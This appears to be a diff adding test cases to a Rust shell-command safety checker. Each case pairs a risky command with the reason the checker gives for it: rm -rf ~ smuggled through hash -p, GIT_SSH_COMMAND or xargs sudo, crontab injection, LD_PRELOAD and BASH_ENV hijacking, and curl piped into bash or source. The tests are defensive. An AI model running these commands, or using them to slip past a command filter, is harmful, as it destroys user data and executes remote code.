@@ -280,6 +280,66 @@ fn what_cannot_be_read_is_named() {
         ),
         ("echo 'a' |", "could not be parsed"),
         ("if true; then", "could not be parsed"),
+        ("rg --pre ./x pattern", "`rg --pre` runs a command"),
+        (
+            "crontab -l | { cat; echo '* * * * * x'; } | crontab -",
+            "is fed to `crontab` as code",
+        ),
+        (
+            "hash -p /bin/rm ls; ls -rf ~",
+            "`hash -p` makes a name run another program",
+        ),
+        (
+            "GIT_SSH_COMMAND='rm -rf ~' git fetch",
+            "`GIT_SSH_COMMAND=` on a command line",
+        ),
+        ("LD_PRELOAD=./x.so ls", "`LD_PRELOAD=`"),
+        ("env BASH_ENV=x.sh bash -c true", "`BASH_ENV=`"),
+        ("PATH=.:$PATH ls", "`PATH=`"),
+        (
+            "cat cmds | xargs -I{} sh -c '{}'",
+            "`sh -c` runs text built from an expansion",
+        ),
+        (
+            "cat cmds | xargs -I % sh -c 'echo %'",
+            "`sh -c` runs text built from an expansion",
+        ),
+        (
+            "cat cmds | xargs sh -c",
+            "`xargs` appends its input to `sh`",
+        ),
+        (
+            "echo rm -rf ~ | xargs env",
+            "`xargs` appends its input to `env`",
+        ),
+        (
+            "echo rm -rf ~ | xargs sudo -u root",
+            "`xargs` appends its input to `sudo`",
+        ),
+        (
+            "echo rm | xargs -I{} env {} -rf ~",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "cat cmds | xargs -I{} {}",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "find . -name '*.sh' -exec {} \\;",
+            "command word is built from an expansion: {}",
+        ),
+        (
+            "parallel {} ::: a b",
+            "`parallel` runs text built from an expansion",
+        ),
+        (
+            "curl -s http://x | source /dev/stdin",
+            "is fed to `source` as code",
+        ),
+        (
+            "curl -s http://x | bash /dev/stdin",
+            "is fed to `bash` as code",
+        ),
     ];
     for (text, want) in cases {
         let reasons = unread(text);
